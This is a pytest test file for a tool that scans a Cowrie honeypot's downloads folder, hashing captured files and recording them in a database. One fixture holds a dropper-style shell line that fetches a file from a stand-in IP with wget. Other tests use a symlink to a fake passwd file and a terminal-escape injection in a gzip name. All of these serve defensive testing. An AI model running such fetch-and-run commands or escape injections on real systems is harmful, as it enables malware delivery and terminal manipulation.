"""Scanning Cowrie's downloads folder."""

from __future__ import annotations

import datetime as dt
import hashlib
import itertools
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, insert, select, text, update

from cowrieprocessor.analysis import captured_file
from cowrieprocessor.analysis.captured_file import SkipReason, is_temporary_name, read_captured
from cowrieprocessor.analysis.downloads_scan import ScanLimits, ScanResult, artifact_session, scan_downloads
from cowrieprocessor.db.engine import write_transaction
from cowrieprocessor.db.enrichment.skipped_hashes import EMPTY_FILE_SHA256, LONE_NEWLINE_SHA256
from cowrieprocessor.db.jobs import INTERRUPTED
from cowrieprocessor.db.models import Base, FileHash, Files, Job
from cowrieprocessor.errors import InputNotFound, InputNotReadable
from cowrieprocessor.loader.bulk import BulkLoader

FILES = Files.__table__
HASHES = FileHash.__table__
JOBS = Job.__table__

HOUR_S = 3600
MTIME = 1_600_000_000
MTIME_UTC = dt.datetime(2020, 9, 13, 12, 26, 40, tzinfo=dt.UTC)
LOGGED_AT = dt.datetime(2021, 3, 9, 16, 28, 57, tzinfo=dt.UTC)


def put(folder: Path, content: bytes, *, mtime: float = MTIME) -> str:
    """Put a captured file into the folder and return its hash."""
    sha256 = hashlib.sha256(content).hexdigest()
    path = folder / sha256
    path.write_bytes(content)
    os.utime(path, (mtime, mtime))
    return sha256


def add_logged(engine: Engine, sha256: str, sessions: list[str]) -> None:
    """Write what the loader writes for file events of these sessions."""
    with write_transaction(engine) as connection:
        connection.execute(
            insert(HASHES),
            {
                "sha256": sha256,
                "first_seen": LOGGED_AT,
                "last_seen": LOGGED_AT,
                "session_count": len(sessions),
            },
        )
        connection.execute(
            insert(FILES), [{"session_id": s, "shasum": sha256, "first_seen": LOGGED_AT} for s in sessions]
        )


def contents(engine: Engine) -> tuple[list[object], list[object]]:
    """Return every row of file_hashes and files, times of change included."""
    with engine.connect() as connection:
        hashes = connection.execute(select(HASHES).order_by(HASHES.c.sha256)).all()
        files = connection.execute(select(FILES).order_by(FILES.c.id)).all()
    return list(hashes), list(files)


def hash_row(engine: Engine, sha256: str):
    """Return the row of one hash, or None."""
    with engine.connect() as connection:
        return connection.execute(select(HASHES).where(HASHES.c.sha256 == sha256)).one_or_none()


def file_rows(engine: Engine, sha256: str):
    """Return the rows of `files` with this hash, by session."""
    with engine.connect() as connection:
        return connection.execute(select(FILES).where(FILES.c.shasum == sha256).order_by(FILES.c.session_id)).all()


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An empty downloads folder."""
    path = tmp_path / "downloads"
    path.mkdir()
    return path


def test_a_captured_file_gets_hashes_size_and_type(engine: Engine, folder: Path) -> None:
    """A new file is stored with SHA-1, MD5, size, type, and its modification time."""
    content = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
    sha256 = put(folder, content)

    result = scan_downloads(engine, folder)

    row = hash_row(engine, sha256)
    assert (row.size_bytes, row.md5, row.sha1) == (
        len(content),
        hashlib.md5(content).hexdigest(),  # noqa: S324
        hashlib.sha1(content).hexdigest(),  # noqa: S324
    )
    assert (row.mime_type, row.file_type) == (
        "text/x-shellscript",
        "POSIX shell script, ASCII text executable",
    )
    assert (row.first_seen, row.last_seen, row.session_count) == (MTIME_UTC, MTIME_UTC, 0)
    assert row.enrichment_status == "pending"
    assert (result.new, result.artifacts, result.bytes_read, result.entries) == (1, 1, len(content), 1)


def test_a_file_in_no_log_becomes_an_artifact_row(engine: Engine, folder: Path) -> None:
    """A captured file without an event is a row of `files` under the sensor's artifact session."""
    sha256 = put(folder, b"orphan")

    scan_downloads(engine, folder, sensor="pot-7")

    (row,) = file_rows(engine, sha256)
    assert (row.session_id, row.origin, row.filename, row.download_url, row.file_size) == (
        "artifact:pot-7", "artifact", None, None, 6,
    )  # fmt: skip
    assert row.first_seen == MTIME_UTC
    assert row.enrichment_status == "pending"
    assert row.vt_malicious is False


def test_an_artifact_row_copies_the_verdict_already_known(engine: Engine, folder: Path) -> None:
    """A hash with a verdict from elsewhere gives its artifact row the same verdict."""
    sha256 = put(folder, b"known elsewhere")
    with write_transaction(engine) as connection:
        connection.execute(
            insert(HASHES),
            {
                "sha256": sha256,
                "first_seen": LOGGED_AT,
                "last_seen": LOGGED_AT,
                "vt_malicious": True,
                "vt_positives": 41,
                "vt_total": 70,
                "vt_classification": "trojan",
                "enrichment_status": "enriched",
            },
        )

    scan_downloads(engine, folder)

    (row,) = file_rows(engine, sha256)
    assert (row.vt_malicious, row.vt_positives, row.vt_total, row.vt_classification) == (
        True, 41, 70, "trojan",
    )  # fmt: skip
    assert row.enrichment_status == "enriched"


def test_each_sensor_has_its_own_artifact_row(engine: Engine, folder: Path) -> None:
    """The same file in no log, found on two sensors, is two rows, in whichever order they are scanned."""
    sha256 = put(folder, b"on both")

    scan_downloads(engine, folder, sensor="b")
    scan_downloads(engine, folder, sensor="a")
    scan_downloads(engine, folder, sensor="b")

    assert [row.session_id for row in file_rows(engine, sha256)] == ["artifact:a", "artifact:b"]


def test_a_logged_file_gets_its_size_everywhere(engine: Engine, folder: Path) -> None:
    """Rows of sessions with the hash get the size, no artifact row is added, and no time changes."""
    sha256 = put(folder, b"dropper")
    add_logged(engine, sha256, ["s1", "s2"])

    result = scan_downloads(engine, folder)

    assert [(row.session_id, row.file_size) for row in file_rows(engine, sha256)] == [("s1", 7), ("s2", 7)]
    row = hash_row(engine, sha256)
    assert (row.first_seen, row.last_seen, row.session_count) == (LOGGED_AT, LOGGED_AT, 2)
    assert (result.new, result.completed, result.sizes_set, result.artifacts) == (0, 1, 2, 0)


def test_sizes_are_set_in_bounded_transactions(engine: Engine, folder: Path) -> None:
    """A hash of many sessions gets its size over several transactions, each row exactly once."""
    first, second = put(folder, b"popular"), put(folder, b"popular too")
    add_logged(engine, first, [f"s{n:02}" for n in range(21)])
    add_logged(engine, second, [f"s{n:02}" for n in range(10)])

    result = scan_downloads(engine, folder, limits=ScanLimits(sizes_per_transaction=7))

    assert result.sizes_set == 31
    assert {row.file_size for row in file_rows(engine, first)} == {7}
    assert {row.file_size for row in file_rows(engine, second)} == {11}


def test_a_second_scan_changes_nothing(engine: Engine, folder: Path) -> None:
    """A second scan changes no row, including update times, and reads nothing."""
    sha256 = put(folder, b"one")
    put(folder, b"two")
    add_logged(engine, sha256, ["s1"])
    scan_downloads(engine, folder)
    before = contents(engine)

    result = scan_downloads(engine, folder)

    assert contents(engine) == before
    assert (result.unchanged, result.new, result.completed, result.bytes_read) == (2, 0, 0, 0)


def test_rehash_reads_again_and_finds_tampering(engine: Engine, folder: Path) -> None:
    """A known file is read again only on request, which reveals a changed content."""
    sha256 = put(folder, b"evidence")
    scan_downloads(engine, folder)
    before = contents(engine)
    (folder / sha256).write_bytes(b"EVIDENCE")
    os.utime(folder / sha256, (MTIME, MTIME))

    skipped = scan_downloads(engine, folder)
    reread = scan_downloads(engine, folder, rehash=True)

    assert (skipped.unchanged, skipped.bytes_read) == (1, 0)
    assert reread.mismatched == [sha256]
    assert contents(engine) == before


def test_tampering_that_changed_the_time_is_found_without_rehash(engine: Engine, folder: Path) -> None:
    """A file in no log with a new modification time is read before that time is used."""
    sha256 = put(folder, b"evidence")
    scan_downloads(engine, folder)
    before = contents(engine)
    (folder / sha256).write_bytes(b"EVIDENCE")

    assert scan_downloads(engine, folder).mismatched == [sha256]
    assert contents(engine) == before


@pytest.mark.parametrize("sensors", ["aaa", "abc", "aba"])
def test_times_of_an_artifact_are_the_same_in_any_order_of_scans(engine: Engine, folder: Path, sensors: str) -> None:
    """A hash in no log was first seen at the earliest time of its files and last at the latest."""
    orders = list(itertools.permutations((0, 1, 2)))
    contents_in_order = {repr(hours).encode(): hours for hours in orders}
    earliest: dict[tuple[str, str], dt.datetime] = {}
    for scan_number, sensor in enumerate(sensors):
        for content, hours in contents_in_order.items():
            sha256 = put(folder, content, mtime=MTIME + hours[scan_number] * HOUR_S)
            moment = MTIME_UTC + dt.timedelta(hours=hours[scan_number])
            earliest[sha256, sensor] = min(moment, earliest.get((sha256, sensor), moment))
        scan_downloads(engine, folder, sensor=sensor)

    before = contents(engine)
    again = scan_downloads(engine, folder, sensor=sensors[-1])

    assert {(row.first_seen, row.last_seen) for row in before[0]} == {(MTIME_UTC, MTIME_UTC + dt.timedelta(hours=2))}
    assert earliest == {(row.shasum, row.session_id.removeprefix("artifact:")): row.first_seen for row in before[1]}
    assert (again.unchanged, again.bytes_read) == (len(orders), 0)
    assert contents(engine) == before


def test_a_new_time_is_counted_as_completed(engine: Engine, folder: Path) -> None:
    """A scan that only changes a time counts the file as completed, and reads it once."""
    put(folder, b"old")
    scan_downloads(engine, folder)
    put(folder, b"old", mtime=MTIME - 60)

    result = scan_downloads(engine, folder)

    assert (result.new, result.completed, result.unchanged, result.bytes_read, result.artifacts) == (0, 1, 0, 3, 0)


def test_no_scan_changes_the_times_of_a_log(engine: Engine, folder: Path) -> None:
    """The times of a hash in a log change neither for an earlier nor for a later file."""
    sha256 = put(folder, b"logged")
    add_logged(engine, sha256, ["s1"])
    for seconds in (-100, 100_000_000):
        put(folder, b"logged", mtime=MTIME + seconds)
        scan_downloads(engine, folder, rehash=True)

    row = hash_row(engine, sha256)
    assert (row.first_seen, row.last_seen) == (LOGGED_AT, LOGGED_AT)
    assert file_rows(engine, sha256)[0].first_seen == LOGGED_AT


def test_a_row_that_lost_its_size_gets_it_back(engine: Engine, folder: Path) -> None:
    """A row left without a size by a crash or an older loader is completed without reading the file again."""
    sha256 = put(folder, b"known")
    add_logged(engine, sha256, ["s1"])
    scan_downloads(engine, folder)
    with write_transaction(engine) as connection:
        connection.execute(update(FILES).values(file_size=None))

    result = scan_downloads(engine, folder)

    assert (result.sizes_set, result.bytes_read) == (1, 0)
    assert file_rows(engine, sha256)[0].file_size == 5


def test_skipped_hashes_are_never_enriched(engine: Engine, folder: Path) -> None:
    """The empty file and the lone newline are stored with status skipped."""
    assert put(folder, b"") == EMPTY_FILE_SHA256
    assert put(folder, b"\n") == LONE_NEWLINE_SHA256

    scan_downloads(engine, folder)

    for sha256, size in ((EMPTY_FILE_SHA256, 0), (LONE_NEWLINE_SHA256, 1)):
        row = hash_row(engine, sha256)
        assert (row.enrichment_status, row.size_bytes) == ("skipped", size)
        assert file_rows(engine, sha256)[0].enrichment_status == "skipped"


def test_a_mismatch_is_not_stored(engine: Engine, folder: Path) -> None:
    """A file whose content does not have the hash in its name is reported and stored under neither hash."""
    (folder / ("a" * 64)).write_bytes(b"truncated")

    result = scan_downloads(engine, folder)

    assert result.mismatched == ["a" * 64]
    assert result.left_alone == {"mismatch": 1}
    assert contents(engine) == ([], [])


def test_nothing_is_followed_and_nothing_blocks(engine: Engine, folder: Path, tmp_path: Path) -> None:
    """Links, FIFOs, sockets, folders and temporary names are skipped and counted by reason."""
    secret = tmp_path / "passwd"
    secret.write_bytes(b"root:x:0:0")
    (folder / hashlib.sha256(b"root:x:0:0").hexdigest()).symlink_to(secret)
    (folder / ("0" * 64)).symlink_to(tmp_path / "nowhere")
    (folder / "friendly-name").symlink_to("1" * 64)
    os.mkfifo(folder / ("1" * 64))
    (folder / ("2" * 64)).mkdir()
    (folder / ("2" * 64) / ("3" * 64)).write_bytes(b"inside")
    (folder / "lost+found").mkdir()
    listener = socket.socket(socket.AF_UNIX)
    here = Path.cwd()
    os.chdir(folder)  # a socket's path has to be short
    try:
        listener.bind("4" * 64)
    finally:
        os.chdir(here)
        listener.close()
    for name in ("redir_0086bc7c", "stdin_00ff", "sftp_1", "scp_2", "gcc_3", "tmpab12", "20160101-120000-x"):
        (folder / name).write_bytes(b"partial")
    (folder / "redir_1").symlink_to(secret)
    (folder / "redir_2").mkdir()
    os.mkfifo(folder / "redir_3")
    (folder / "README").write_bytes(b"note")
    (folder / ("5" * 63)).write_bytes(b"too short")

    result = scan_downloads(engine, folder)

    assert result.left_alone == {
        "symlink": 4, "fifo": 2, "folder": 3, "socket": 1, "temporary": 7, "other_name": 2,
    }  # fmt: skip
    assert result.entries == 19
    assert contents(engine) == ([], [])


@pytest.mark.skipif(os.getuid() != 0, reason="only root can make a device")
def test_a_device_is_skipped(engine: Engine, folder: Path) -> None:
    """A device file named by a hash is not opened."""
    try:
        os.mknod(folder / ("6" * 64), 0o600 | 0o020000, os.makedev(1, 5))
    except PermissionError:
        pytest.skip("this system does not allow making devices")

    assert scan_downloads(engine, folder).left_alone == {"device": 1}


def test_a_link_put_there_after_the_listing_is_not_followed(folder: Path, tmp_path: Path) -> None:
    """A file that becomes a link, FIFO or folder between listing and opening is skipped."""
    secret = tmp_path / "secret"
    secret.write_bytes(b"secret")
    name = hashlib.sha256(b"secret").hexdigest()
    (folder / name).symlink_to(secret)
    os.mkfifo(folder / ("1" * 64))
    (folder / ("2" * 64)).mkdir()
    folder_fd = os.open(folder, os.O_RDONLY)
    try:
        outcomes = [read_captured(folder_fd, n) for n in (name, "1" * 64, "2" * 64, "3" * 64)]
    finally:
        os.close(folder_fd)

    assert outcomes == [SkipReason.SYMLINK, SkipReason.FIFO, SkipReason.FOLDER, SkipReason.VANISHED]


@pytest.mark.parametrize("change", ["grow", "shrink", "rewrite"])
def test_a_file_that_changes_while_it_is_read_is_skipped(
    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch, change: str
) -> None:
    """A file that grows, shrinks or is rewritten while it is read is left for the next scan."""
    sha256 = put(folder, b"0123456789")
    path = folder / sha256
    real_read = os.read
    calls = []

    def read_and_change(fd: int, length: int) -> bytes:
        data = real_read(fd, length)
        if data and not calls:
            calls.append(fd)
            if change == "grow":
                with path.open("ab") as file:
                    file.write(b"+++++")
            elif change == "shrink":
                os.truncate(path, 5)
            else:
                path.write_bytes(b"9876543210")
        return data

    monkeypatch.setattr(captured_file.os, "read", read_and_change)

    result = scan_downloads(engine, folder, limits=ScanLimits(chunk_bytes=4))

    assert result.left_alone == {"changing": 1}
    assert contents(engine) == ([], [])


def test_upper_case_names_are_the_same_hash(engine: Engine, folder: Path) -> None:
    """A copy with an upper-case name is the same hash, and every entry is counted."""
    sha256 = put(folder, b"once")
    shutil.copy(folder / sha256, folder / sha256.upper())

    result = scan_downloads(engine, folder)

    assert [row.shasum for row in file_rows(engine, sha256)] == [sha256]
    assert (result.new, result.unchanged, result.entries) == (1, 1, 2)


def test_without_libmagic_types_stay_unknown_until_it_is_installed(
    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the extra, files are stored without types; a later scan with it adds them."""
    sha256 = put(folder, b"#!/bin/sh\n")
    with monkeypatch.context() as patch:
        patch.setitem(sys.modules, "magic", None)
        without = scan_downloads(engine, folder)
        again = scan_downloads(engine, folder)
    assert (without.types_known, hash_row(engine, sha256).file_type, again.bytes_read) == (False, None, 0)

    result = scan_downloads(engine, folder)

    assert (result.types_known, result.completed) == (True, 1)
    assert hash_row(engine, sha256).mime_type == "text/x-shellscript"


def test_types_that_quote_the_file_are_inert(engine: Engine, folder: Path) -> None:
    """A description that quotes the file has no control characters and fits its column."""
    name = b"\x1b]0;owned\x07" + b"A" * 2000
    sha256 = put(folder, b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03" + name + b"\x00" + b"rest")

    scan_downloads(engine, folder)

    description = hash_row(engine, sha256).file_type
    assert description.startswith("gzip compressed data")
    assert description.isprintable()
    assert len(description) <= 256


@pytest.mark.parametrize("seconds", [-1, 4_000_000_000])
def test_an_impossible_mtime_counts_as_now(engine: Engine, folder: Path, seconds: int) -> None:
    """A file dated before 1970 or in the future is first seen now, not then."""
    sha256 = put(folder, b"time traveller")
    os.utime(folder / sha256, (seconds, seconds))
    if abs((folder / sha256).stat().st_mtime - seconds) > 1:
        pytest.skip("this file system does not hold such a time")

    scan_downloads(engine, folder)

    before = contents(engine)
    age = dt.datetime.now(dt.UTC) - hash_row(engine, sha256).first_seen
    assert dt.timedelta(0) <= age < dt.timedelta(minutes=5)
    scan_downloads(engine, folder, rehash=True)
    assert contents(engine) == before


def test_large_folders_are_scanned_in_batches(engine: Engine, folder: Path) -> None:
    """Many files are stored in several transactions, limited by number and by bytes, with progress after each file."""
    for n in range(35):
        put(folder, b"%05d" % n)
    seen: list[tuple[int, int]] = []

    result = scan_downloads(
        engine,
        folder,
        on_progress=lambda so_far, total: seen.append((so_far.entries, total)),
        limits=ScanLimits(batch_files=10, batch_bytes=20),
    )

    assert (result.new, result.artifacts, result.bytes_read) == (35, 35, 175)
    assert len(seen) == 35
    assert {total for _, total in seen} == {35}
    with engine.connect() as connection:
        assert connection.scalar(select(func.count()).select_from(HASHES)) == 35


def test_the_job_row_records_the_scan(engine: Engine, folder: Path) -> None:
    """The table of jobs has one row `scan` with state, times and counters by reason."""
    put(folder, b"x")
    (folder / "README").write_bytes(b"")

    scan_downloads(engine, folder)

    with engine.connect() as connection:
        row = connection.execute(select(JOBS)).one()
    assert (row.name, row.state, row.reason) == ("scan", "done", None)
    assert row.counters["new"] == 1
    assert row.counters["left_alone_other_name"] == 1
    assert row.started_at <= row.updated_at <= row.finished_at


def test_an_interrupted_scan_is_recorded_and_can_be_resumed(engine: Engine, folder: Path) -> None:
    """After Ctrl-C what was committed stays, the job says so, and a new scan does the rest."""
    for n in range(6):
        put(folder, b"%d" % n)

    def interrupt(so_far: ScanResult, total: int) -> None:
        if so_far.entries > 4:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        scan_downloads(engine, folder, on_progress=interrupt, limits=ScanLimits(batch_files=2))
    with engine.connect() as connection:
        row = connection.execute(select(JOBS)).one()
    assert (row.state, row.reason) == ("stopped", INTERRUPTED)

    result = scan_downloads(engine, folder)

    assert (result.unchanged, result.new) == (4, 2)


def test_a_missing_folder_is_an_error(engine: Engine, tmp_path: Path) -> None:
    """A missing folder and a path that is not a folder are different errors, and no job starts."""
    (tmp_path / "file").write_bytes(b"")

    with pytest.raises(InputNotFound, match="no such folder"):
        scan_downloads(engine, tmp_path / "nowhere")
    with pytest.raises(InputNotReadable, match="is not a folder"):
        scan_downloads(engine, tmp_path / "file")
    with engine.connect() as connection:
        assert connection.scalar(select(func.count()).select_from(JOBS)) == 0


# --- what a redirect left and Cowrie forgot ---

LOADER_STAGE = b"\x7fELF harmless"


def leave(folder: Path, content: bytes, *, name: str = "redir_00ff", age_s: float = 2 * HOUR_S) -> Path:
    """Leave a file under the temporary name of a redirect."""
    path = folder / name
    path.write_bytes(content)
    moment = time.time() - age_s
    os.utime(path, (moment, moment))
    return path


def test_a_leftover_is_an_artifact_under_its_hash(engine: Engine, folder: Path) -> None:
    """The output of a redirect is stored once after an hour without writes, under its hash and without a name."""
    path = leave(folder, LOADER_STAGE)
    sha256 = hashlib.sha256(LOADER_STAGE).hexdigest()

    result = scan_downloads(engine, folder, sensor="pot")
    before = contents(engine)
    again = scan_downloads(engine, folder, sensor="pot")

    (row,) = file_rows(engine, sha256)
    assert (row.session_id, row.origin, row.filename, row.file_size) == (
        "artifact:pot", "artifact", None, len(LOADER_STAGE),
    )  # fmt: skip
    found = hash_row(engine, sha256)
    assert (found.size_bytes, found.md5) == (len(LOADER_STAGE), hashlib.md5(LOADER_STAGE).hexdigest())  # noqa: S324
    assert abs(found.first_seen.timestamp() - path.stat().st_mtime) < 1e-5
    assert (result.new, result.leftovers, result.artifacts, result.left_alone) == (1, 1, 1, {})
    assert (again.new, again.unchanged, again.leftovers, again.artifacts) == (0, 1, 1, 0)
    assert contents(engine) == before


@pytest.mark.parametrize(
    ("content", "age_s"), [(b"young", 0), (b"young", HOUR_S - 60), (b"from tomorrow", -24 * HOUR_S), (b"", 9 * HOUR_S)]
)
def test_an_unfinished_redirect_is_skipped(engine: Engine, folder: Path, content: bytes, age_s: float) -> None:
    """Output written in the last hour, or empty output, is still a temporary file."""
    leave(folder, content, age_s=age_s)

    result = scan_downloads(engine, folder)

    assert (result.left_alone, result.leftovers, result.bytes_read) == ({"temporary": 1}, 0, 0)
    assert contents(engine) == ([], [])


def test_a_redirect_that_is_open_for_writing_waits_a_day(engine: Engine, folder: Path) -> None:
    """Old output that is open for writing is skipped, but not for ever."""
    path = leave(folder, LOADER_STAGE)
    moment = path.stat().st_mtime
    with path.open("ab"):
        if not has_writer(path):
            pytest.skip("this file system does not tell who writes")
        waiting = scan_downloads(engine, folder)
        os.utime(path, (moment - 24 * HOUR_S, moment - 24 * HOUR_S))
        taken = scan_downloads(engine, folder)

    assert (waiting.left_alone, waiting.leftovers) == ({"temporary": 1}, 0)
    assert (taken.left_alone, taken.leftovers) == ({}, 1)
    assert not has_writer(path)


def has_writer(path: Path) -> bool:
    """Return whether the scan sees a writer of a file."""
    descriptor = os.open(path, os.O_RDONLY)
    try:
        return captured_file._has_writer(descriptor)
    finally:
        os.close(descriptor)


@pytest.mark.parametrize("scan_first", [True, False])
def test_a_leftover_with_logged_content_is_no_artifact(engine: Engine, folder: Path, scan_first: bool) -> None:
    """Output with the content of a logged file adds its size, in either order, and no row."""
    leave(folder, LOADER_STAGE)
    sha256 = hashlib.sha256(LOADER_STAGE).hexdigest()
    log = folder.parent / "cowrie.json"
    event = {"eventid": "cowrie.session.file_download", "session": "s1", "shasum": sha256, "destfile": "/tmp/x"}
    log.write_text(json.dumps(event | {"timestamp": "2021-03-09T16:28:57.000000Z"}) + "\n", encoding="utf-8")
    steps = [lambda: scan_downloads(engine, folder), lambda: BulkLoader(engine).load([log])]
    for step in steps if scan_first else reversed(steps):
        step()

    rows = [(row.session_id, row.filename, row.file_size) for row in file_rows(engine, sha256)]
    assert rows == [("s1", "/tmp/x", len(LOADER_STAGE))]
    assert hash_row(engine, sha256).first_seen == LOGGED_AT
    assert scan_downloads(engine, folder).unchanged == 1


def test_several_leftovers_with_the_same_content_are_one_file(engine: Engine, folder: Path) -> None:
    """Leftovers with the same content, and a file named by its hash, are one row with the range of their times."""
    for number in range(5):
        leave(folder, LOADER_STAGE, name=f"redir_{number:032x}", age_s=(2 + number) * HOUR_S)
    sha256 = put(folder, LOADER_STAGE)

    result = scan_downloads(engine, folder)
    before = contents(engine)
    again = scan_downloads(engine, folder)

    row = hash_row(engine, sha256)
    assert row.first_seen == MTIME_UTC
    assert abs(row.last_seen.timestamp() - (folder / f"redir_{0:032x}").stat().st_mtime) < 1e-5
    assert [found.first_seen for found in file_rows(engine, sha256)] == [MTIME_UTC]
    assert (result.new, result.unchanged, result.leftovers, result.entries) == (1, 5, 5, 6)
    assert (again.new, again.unchanged, again.completed, again.leftovers) == (0, 6, 0, 5)
    assert contents(engine) == before


def test_two_concurrent_scans_equal_one(engine: Engine, folder: Path) -> None:
    """Concurrent scans of the same folder store each file once."""
    hashes = [put(folder, b"%d" % n) for n in range(40)]
    add_logged(engine, hashes[0], ["s1", "s2"])

    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda _: scan_downloads(engine, folder), range(4)))

    stored_hashes, stored_files = contents(engine)
    assert len(stored_hashes) == 40
    assert len(stored_files) == 41
    assert sum(result.artifacts for result in results) == 39
    assert sum(result.sizes_set for result in results) == 2


def test_the_order_of_scan_and_load_does_not_matter(engine: Engine, corpus: Path) -> None:
    """Scanning before or after loading gives the same files and hashes."""
    downloads_folder, log = corpus / "cowrie-3.1.4" / "downloads", corpus / "cowrie-3.1.4" / "cowrie.json"
    scan_downloads(engine, downloads_folder)
    BulkLoader(engine).load([log])
    scanned_first = stable_contents(engine)
    with write_transaction(engine) as connection:
        for table in reversed(Base.metadata.sorted_tables):
            if table.name not in ("schema_state", "alembic_version"):
                connection.execute(table.delete())

    BulkLoader(engine).load([log])
    scan_downloads(engine, downloads_folder)

    assert stable_contents(engine) == scanned_first
    assert all(row[0] != "artifact" for row in scanned_first[1])
    assert all(row[3] is not None for row in scanned_first[1])


def stable_contents(engine: Engine) -> tuple[list[object], list[object]]:
    """Return rows of file_hashes and files without surrogate keys and times of writing."""
    hash_columns = [column for column in HASHES.c if column.name != "updated_at"]
    with engine.connect() as connection:
        hashes = connection.execute(select(*hash_columns).order_by(HASHES.c.sha256)).all()
        files = connection.execute(
            select(FILES.c.origin, FILES.c.session_id, FILES.c.shasum, FILES.c.file_size, FILES.c.first_seen).order_by(
                FILES.c.session_id, FILES.c.shasum
            )
        ).all()
    return list(hashes), list(files)


UNREADABLE_SCRIPT = """
import os, sys
folder, uid = sys.argv[1], int(sys.argv[2])
from cowrieprocessor.analysis.captured_file import read_captured
fd = os.open(folder, os.O_RDONLY)
if uid:
    os.setgroups([]); os.setgid(uid); os.setuid(uid)
print(read_captured(fd, "7" * 64).value)
"""


def test_a_file_without_permission_is_unreadable(folder: Path) -> None:
    """A file without read permission has its own reason; run as another user if the tests run as root."""
    path = folder / ("7" * 64)
    path.write_bytes(b"secret")
    path.chmod(0)
    uid = "65534" if os.getuid() == 0 else "0"

    done = subprocess.run(
        [sys.executable, "-c", UNREADABLE_SCRIPT, str(folder), uid],
        capture_output=True,
        text=True,
        check=True,
    )

    assert done.stdout.strip() == "unreadable"


def test_names_that_look_temporary() -> None:
    """Cowrie's names of unfinished files are recognized; a hash or a plain name is not one."""
    temporary = [
        "stdin_0a", "redir_0086bc7c3cbc43e58be64663db17ec5f", "sftp_ff", "scp_1", "gcc_2", "tmp", "tmpq8_x",
        "20160229-235959-12", "20200121131433_aa80bf3fb7ad_0_http___198_18_0_1_w_txt",
    ]  # fmt: skip
    other = ["redir_", "redir_xyz", "stdin", "a" * 64, "2016-02-29", "README", ""]

    assert [n for n in temporary if not is_temporary_name(n)] == []
    assert [n for n in other if is_temporary_name(n)] == []


def test_artifact_sessions_fit_their_column_and_stay_distinct() -> None:
    """Long sensor names are cut to 64 characters in all and stay distinct; control characters are escaped."""
    long_a, long_b = "pot-" + "x" * 80 + "a", "pot-" + "x" * 80 + "b"

    names = [artifact_session(name) for name in ("pot", long_a, long_b, "\x1b[2J", "p" * 55, "\ud800" * 60)]

    assert names[0] == "artifact:pot"
    assert names[3] == "artifact:\\x1b[2J"
    assert names[4] == "artifact:" + "p" * 55
    assert len(set(names)) == len(names)
    assert all(len(name) <= 64 for name in names)
    assert all(name.isprintable() for name in names)


def test_the_real_downloads_of_the_corpus(engine: Engine, corpus: Path) -> None:
    """Of a real folder 17 files are stored and 18 temporary ones skipped; a second scan changes nothing."""
    folder = corpus / "cowrie-3.1.4" / "downloads"

    result = scan_downloads(engine, folder, sensor="vm")
    before = contents(engine)
    again = scan_downloads(engine, folder, sensor="vm")

    assert (result.new, result.artifacts, result.left_alone) == (17, 17, {"temporary": 18})
    assert (again.unchanged, again.bytes_read) == (17, 0)
    assert contents(engine) == before
    with engine.connect() as connection:
        untyped = connection.scalar(
            text("SELECT count(*) FROM file_hashes WHERE file_type IS NULL OR mime_type IS NULL")
        )
    assert untyped == 0
